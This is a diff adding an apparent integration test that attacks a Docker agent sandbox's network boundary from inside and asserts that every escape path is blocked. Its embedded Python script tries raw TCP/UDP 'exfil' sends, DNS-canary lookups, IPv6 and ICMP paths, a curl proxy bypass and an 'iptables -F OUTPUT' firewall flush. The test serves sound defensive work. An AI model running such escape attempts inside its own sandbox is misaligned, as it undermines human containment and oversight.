@@ -1,0 +1,149 @@
+// The Docker backend's network boundary, attacked from inside a real agent
+// container: raw TCP and UDP past the proxy, IPv6, DNS, ICMP, the firewall
+// itself. Every target is this host's own listener or a container we made.
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { createSocket } from 'node:dgram';
+import { mkdirSync } from 'node:fs';
+import { createServer, type AddressInfo, type Server } from 'node:net';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { cli, needs, tempHome, writeFile } from '../helpers.js';
+import { docker, leftoversOf, sessionOf } from '../docker-setup.js';
+
+const ATTACK = String.raw`
+import json, os, socket, subprocess, sys
+host_port, udp_port, lo_port, other_ip = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
+proxy = os.environ["HTTPS_PROXY"].split("//")[1]
+gw, proxy_port = proxy.split(":")[0], int(proxy.split(":")[1])
+out = {}
+def tcp(name, family, addr):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(3)
+    try:
+        s.connect(addr)
+        out[name] = "open"
+    except Exception as e:
+        out[name] = "blocked: " + type(e).__name__
+    finally:
+        s.close()
+tcp("gateway_other_port", socket.AF_INET, (gw, host_port))
+tcp("proxy_port", socket.AF_INET, (gw, proxy_port))
+tcp("loopback_host_port", socket.AF_INET, ("127.0.0.1", lo_port))
+tcp("other_container", socket.AF_INET, (other_ip, 8000))
+tcp("v4_mapped_gateway", socket.AF_INET6, ("::ffff:" + gw, host_port))
+tcp("v6_loopback", socket.AF_INET6, ("::1", host_port))
+def udp(name, addr, payload):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    try:
+        s.sendto(payload, addr)
+        s.recvfrom(512)
+        out[name] = "answered"
+    except Exception as e:
+        out[name] = "blocked: " + type(e).__name__
+    finally:
+        s.close()
+udp("udp_gateway", (gw, udp_port), b"exfil")
+udp("udp_quic_gateway", (gw, 443), b"\xc0quic")
+query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0bstashbase-dns\x07invalid\x00\x00\x01\x00\x01"
+udp("dns_embedded_resolver", ("127.0.0.11", 53), query)
+try:
+    socket.getaddrinfo("exfil-data.stashbase-canary.invalid", 443)
+    out["dns_lookup"] = "resolved"
+except Exception as e:
+    out["dns_lookup"] = "failed: " + type(e).__name__
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    out["raw_icmp"] = "open"
+except Exception as e:
+    out["raw_icmp"] = "blocked: " + type(e).__name__
+out["resolv_conf"] = open("/etc/resolv.conf").read().strip()
+out["ipv6_disabled"] = open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip()
+out["cap_eff"] = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
+r = subprocess.run(["iptables", "-F", "OUTPUT"], capture_output=True, text=True)
+out["iptables_flush"] = [r.returncode, r.stderr.strip()]
+r = subprocess.run(["iptables", "-S"], capture_output=True, text=True)
+out["iptables_list"] = r.returncode
+r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "http://denied.test/"], capture_output=True, text=True)
+out["proxy_denies"] = r.stdout
+r = subprocess.run(["curl", "-sS", "--noproxy", "*", "-m", "3", "http://%s:%d/" % (gw, host_port)], capture_output=True, text=True)
+out["curl_noproxy"] = r.returncode
+print("RESULT " + json.dumps(out))
+`;
+
+describe('Docker backend: the network boundary (real engine, attacked from inside)', needs('docker'), () => {
+  const t = tempHome();
+  const proj = join(t.dir, 'proj');
+  const hits = { tcp: 0, udp: 0, lo: 0 };
+  let tcpServer: Server;
+  let loServer: Server;
+  const udpServer = createSocket('udp4');
+  const other = `sbtest-other-${process.pid}`;
+  let otherIp = '';
+  let ports: number[] = [];
+
+  before(async () => {
+    mkdirSync(proj, { recursive: true });
+    // Ours, on every address of this host: reachable from the container were it not for the firewall.
+    tcpServer = createServer((s) => (hits.tcp++, s.destroy()));
+    loServer = createServer((s) => (hits.lo++, s.destroy()));
+    await new Promise<void>((r) => tcpServer.listen(0, '0.0.0.0', r));
+    await new Promise<void>((r) => loServer.listen(0, '127.0.0.1', r));
+    await new Promise<void>((r) => udpServer.bind(0, '0.0.0.0', r));
+    udpServer.on('message', () => hits.udp++);
+    ports = [(tcpServer.address() as AddressInfo).port, udpServer.address().port, (loServer.address() as AddressInfo).port];
+    docker(['network', 'create', other]);
+    docker(['run', '-d', '--name', other, '--network', other, 'stashbase-test-base:latest', 'python3', '-m', 'http.server', '8000']);
+    otherIp = docker(['inspect', '--format', '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}', other]).trim();
+  });
+  after(() => {
+    tcpServer?.close();
+    loServer?.close();
+    udpServer.close();
+    spawnSync('docker', ['rm', '-f', other]);
+    spawnSync('docker', ['network', 'rm', other]);
+    t.cleanup();
+  });
+
+  test('raw TCP, UDP, IPv6, DNS, ICMP and the firewall itself: all blocked; only the proxy answers', async () => {
+    const r = await cli(['agent', 'run', '--docker-sandbox', 'true', '--', 'python3', '-c', ATTACK, ...ports.map(String), otherIp], { env: t.env, cwd: proj, timeoutMs: 90_000 });
+    assert.equal(r.code, 0, r.stderr);
+    const line = r.stdout.split('\n').find((l) => l.startsWith('RESULT '));
+    assert.ok(line, r.stdout + r.stderr);
+    const out = JSON.parse(line.slice(7)) as Record<string, unknown>;
+    assert.equal(out.proxy_port, 'open', 'positive control: the proxy itself is reachable');
+    assert.equal(out.proxy_denies, '403');
+    for (const k of ['gateway_other_port', 'loopback_host_port', 'other_container', 'v4_mapped_gateway', 'v6_loopback', 'udp_gateway', 'udp_quic_gateway', 'dns_embedded_resolver', 'raw_icmp']) {
+      assert.match(String(out[k]), /^blocked: /, `${k}: ${String(out[k])}`);
+    }
+    assert.match(String(out.dns_lookup), /^failed: /);
+    assert.equal(out.resolv_conf, 'nameserver 0.0.0.0');
+    assert.equal(out.ipv6_disabled, '1');
+    assert.equal(out.cap_eff, '0000000000000000');
+    const [code, stderr] = out.iptables_flush as [number, string];
+    assert.notEqual(code, 0);
+    assert.match(stderr, /Permission denied/);
+    assert.notEqual(out.iptables_list, 0);
+    assert.equal(out.curl_noproxy, 7, 'curl --noproxy: connection refused, like a denied host');
+    assert.deepEqual(hits, { tcp: 0, udp: 0, lo: 0 }, 'nothing reached our listeners');
+    assert.deepEqual(leftoversOf(sessionOf(r.stderr)), [], 'the run removed its containers and network');
+  });
+
+  test('a firewall that does not take effect is caught by the canary: nothing runs, everything is removed', async () => {
+    // A holder image whose iptables-restore accepts the rules and installs none.
+    const broken = 'stashbase-test-broken-firewall:latest';
+    const ctx = join(t.dir, 'broken');
+    writeFile(join(ctx, 'Dockerfile'), 'FROM stashbase-sandbox:latest\nRUN printf \'#!/bin/sh\\ncat >/dev/null\\n\' > /usr/local/sbin/iptables-restore && chmod 755 /usr/local/sbin/iptables-restore && cp /usr/local/sbin/iptables-restore /usr/local/sbin/ip6tables-restore\n');
+    docker(['build', '--quiet', '--tag', broken, ctx]);
+    try {
+      const r = await cli(['agent', 'run', '--docker-sandbox', 'true', '--', 'sh', '-c', 'touch ran-anyway'], { env: { ...t.env, STASHBASE_DOCKER_IMAGE: broken }, cwd: proj, timeoutMs: 90_000 });
+      assert.equal(r.code, 4, r.stderr);
+      assert.match(r.stderr, /^stashbase: the firewall self-check failed: the canary 172\.\d+\.\d+\.\d+:\d+ is still reachable: the firewall did not take effect; nothing was run$/m);
+      assert.equal(spawnSync('test', ['-e', join(proj, 'ran-anyway')]).status, 1, 'the agent never started');
+      assert.deepEqual(leftoversOf(sessionOf(r.stderr)), []);
+    } finally {
+      spawnSync('docker', ['image', 'rm', '-f', broken]);
+    }
+  });
+});
